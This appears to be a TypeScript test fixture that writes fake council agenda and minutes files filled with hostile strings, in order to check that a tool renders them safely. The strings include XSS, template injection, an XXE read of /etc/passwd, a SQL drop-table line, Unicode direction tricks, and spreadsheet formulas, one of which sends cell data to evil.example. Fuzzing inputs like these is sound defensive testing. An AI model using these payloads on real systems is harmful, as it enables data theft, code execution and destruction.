import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

/** What minutes may hold and nothing may run, turn around or break. */
export const hostile = [
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '</script><svg onload=alert(3)>',
  '</style><link rel=stylesheet href=//evil.example>',
  ']]><x>',
  '--><!--',
  '{{7*7}}',
  `\${7*7}`,
  '{% include "layout.njk" %}',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\tTabbed =1+1',
  '\r=1+1',
  'Budget \u202egnp.exe\u202c end',
  'isolated \u2066turn\u2069 and \u200fmark',
  'zero\u200bwidth\ufeff',
  'null\u0000byte and \u001b[31mred',
  'surrogate \ud800 half',
  '"><a href="javascript:alert(1)">x</a>',
  '‹mark› ›‹ <mark id="x">',
  "'; drop table items; --",
  'W'.repeat(3_000),
  '\u2028\u2029line',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
];

/** Writes documents made of it: as titles, names, figures, decisions, addresses and councils. */
export async function writeHostile(folder: string): Promise<void> {
  await mkdir(folder, { recursive: true });
  for (const [index, text] of hostile.entries()) {
    const day = `2025-09-${String(1 + index).padStart(2, '0')}`;
    const items = [0, 1, 2].map(n => itemOf(n + 1, hostile[(index + n) % hostile.length]!));
    await writeFile(join(folder, `${index}.txt`), `${text}\n\nAgenda and minutes\n\n${items.join('\n')}`);
    const origin = {
      title: text,
      url: index % 2 ? `javascript:alert(1)//${text}` : `https://x.example/"onmouseover="alert(1)/${text}`,
      licence: text,
      council: `${text} Council`,
      committee: `${text} Committee`,
      meeting_date: day,
    };
    await writeFile(join(folder, `${index}.json`), JSON.stringify(origin));
  }
}

function itemOf(number: number, text: string): string {
  return `${number}.  ${text}

Minutes:

The Committee considered a report on school places and ${text}. It was reported that 58% of ${text} pupils with Education,
Health and Care Plans had contributed in 2024-25. Councillor ${text.slice(0, 60)} asked about £1.2 million of ${text}. The
Director stated that there were errors in the data presented in the report ${text}.

RESOLVED:

a) That the report ${text} be noted.

b) That the Director of ${text.slice(0, 80)} be requested to provide a further report on ${text} in six months.
`;
}
